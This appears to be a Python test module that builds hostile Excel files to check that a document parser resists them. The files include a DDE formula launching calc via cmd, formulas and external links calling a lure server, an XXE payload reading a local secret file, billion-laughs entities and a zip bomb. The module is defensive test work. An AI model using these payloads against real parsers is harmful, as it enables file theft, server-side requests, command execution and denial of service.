"""Excel files: as wide as Excel goes, exploding, with formulas that reach outside."""

from __future__ import annotations

from tests.zoo.animals import WORDS, Lures, animal, either, read, refused
from tests.zoo.packing import (
    compound,
    inline,
    relations,
    sheet_parts,
    zeros,
    zip_of_streams,
    zipped,
)
from tests.zoo.reaching import ENTITIES, laughing
from tests.zoo.words import BROKEN, TOO_MUCH

SIZE = "quá|lớn hơn|bộ nhớ"
ROW = f'<sheetData><row r="1">{inline("A1", WORDS)}</row></sheetData>'


@animal("wide.xlsx", read("125 hồ sơ", most=500))
def wide(lures: Lures) -> bytes:
    """A sheet that says it has all cells Excel can have, and has one."""
    return zipped(sheet_parts(f'<dimension ref="A1:XFD1048576"/>{ROW}'))


@animal("far.xlsx", either(SIZE, because="one cell at the far end is a sheet of one cell"))
def far(lures: Lures) -> bytes:
    """One cell at each end of the largest sheet."""
    rows = (
        f'<row r="1">{inline("A1", WORDS)}</row><row r="1048576">{inline("XFD1048576", "x")}</row>'
    )
    return zipped(sheet_parts(f"<sheetData>{rows}</sheetData>"))


@animal("cells.xlsx", refused(SIZE), needs="slow")
def cells(lures: Lures) -> bytes:
    """Five million cells."""
    row = "<row>" + "<c><v>1</v></c>" * 50 + "</row>"
    return zipped(sheet_parts("<sheetData>" + row * 100_000 + "</sheetData>"))


@animal("merged.xlsx", read("125 hồ sơ", most=2000))
def merged(lures: Lures) -> bytes:
    """One cell merged over the whole sheet."""
    spread = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return zipped(sheet_parts(ROW + spread))


@animal("formulas.xlsx", read("125 hồ sơ"))
def formulas(lures: Lures) -> bytes:
    """Formulas that ask a server, follow a link, start a program."""
    url = lures.url
    asked = (
        f"WEBSERVICE(&quot;{url}/web&quot;)",
        f"HYPERLINK(&quot;{url}/link&quot;,&quot;xem&quot;)",
        "cmd|&apos;/C calc&apos;!A0",
        f"IMAGE(&quot;{url}/image&quot;)",
    )
    cells = "".join(f'<c r="B{n}"><f>{formula}</f></c>' for n, formula in enumerate(asked, start=1))
    return zipped(
        sheet_parts(f'<sheetData><row r="1">{inline("A1", WORDS)}{cells}</row></sheetData>')
    )


@animal("outside.xlsx", read("125 hồ sơ"))
def outside(lures: Lures) -> bytes:
    """Links to a workbook on a server, and a query of it on opening."""
    more = {
        "xl/_rels/workbook.xml.rels": relations(
            ("rId1", "worksheet", "worksheets/sheet1.xml"),
            ("rId2", "externalLink", "externalLinks/1.xml"),
            ("rId3", "connections", "connections.xml"),
        ),
        "xl/externalLinks/1.xml": "<externalLink/>",
        "xl/externalLinks/_rels/1.xml.rels": relations(
            ("rId1", "externalLinkPath", f"{lures.url}/book.xlsx")
        ),
        "xl/connections.xml": f'<connections><connection id="1" refreshOnLoad="1"><webPr '
        f'url="{lures.url}/query"/></connection></connections>',
    }
    return zipped(sheet_parts(ROW, more))


@animal("laughs.xlsx", refused(ENTITIES))
def laughs(lures: Lures) -> bytes:
    """Billion laughs in the strings of a workbook."""
    strings = f'<?xml version="1.0"?>{laughing()}<sst><si><t>&lol9;</t></si></sst>'
    rows = '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>'
    return zipped(sheet_parts(rows, shared(strings)))


@animal("xxe.xlsx", refused(ENTITIES))
def secret(lures: Lures) -> bytes:
    """Strings that are a file of this machine and an answer of a server."""
    strings = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "{lures.secret.as_uri()}">'
        f'<!ENTITY b SYSTEM "{lures.url}/xlsx">]><sst><si><t>{WORDS} &a; &b;</t></si></sst>'
    )
    rows = '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>'
    return zipped(sheet_parts(rows, shared(strings)))


def shared(strings: str) -> dict[str, bytes | str]:
    return {
        "xl/sharedStrings.xml": strings,
        "xl/_rels/workbook.xml.rels": relations(
            ("rId1", "worksheet", "worksheets/sheet1.xml"),
            ("rId2", "sharedStrings", "sharedStrings.xml"),
        ),
    }


@animal("strings.xlsx", either(BROKEN, because="the other cells can be read"))
def missing_strings(lures: Lures) -> bytes:
    """A cell whose string is number 999,999,999 of none."""
    rows = f'<sheetData><row r="1">{inline("A1", WORDS)}<c r="B1" t="s"><v>999999999</v></c>' \
        '<c r="C1" t="s"><v>-1</v></c><c r="D1"><v>1e999</v></c></row></sheetData>'  # fmt: skip
    return zipped(sheet_parts(rows))


@animal("cut.xlsx", refused(BROKEN))
def cut(lures: Lures) -> bytes:
    """Half of an Excel file."""
    rows = "".join(f'<row r="{n}">{inline(f"A{n}", f"{WORDS} {n}")}</row>' for n in range(1, 3000))
    file = zipped(sheet_parts(f"<sheetData>{rows}</sheetData>"))
    return file[: len(file) // 2]


@animal("locked.xlsx", refused("mật khẩu"))
def locked(lures: Lures) -> bytes:
    """Excel's own encryption."""
    return compound({"EncryptionInfo": b"\4\0\4\0", "EncryptedPackage": bytes(range(256)) * 40})


@animal("bomb.xlsx", refused(TOO_MUCH))
def bomb(lures: Lures) -> bytes:
    """A sheet of a gigabyte in a megabyte."""
    stream = zeros(2**30)
    return zip_of_streams(
        {
            "xl/workbook.xml": (b"\3\0", 0, 0),
            "xl/worksheets/sheet1.xml": (stream, 2**30, 0),
        }
    )


@animal("no-sheets.xlsx", refused(BROKEN + "|không có"))
def no_sheets(lures: Lures) -> bytes:
    """A workbook without its sheets."""
    parts = sheet_parts(ROW)
    del parts["xl/worksheets/sheet1.xml"]
    return zipped(parts)


@animal("old.xls", refused("kiểu cũ|Excel|hỏng|không"))
def old(lures: Lures) -> bytes:
    """An Excel 97 file that holds nothing."""
    return compound({"Workbook": b"\x09\x08\x10\0\0\6\5\0" + bytes(5000)})
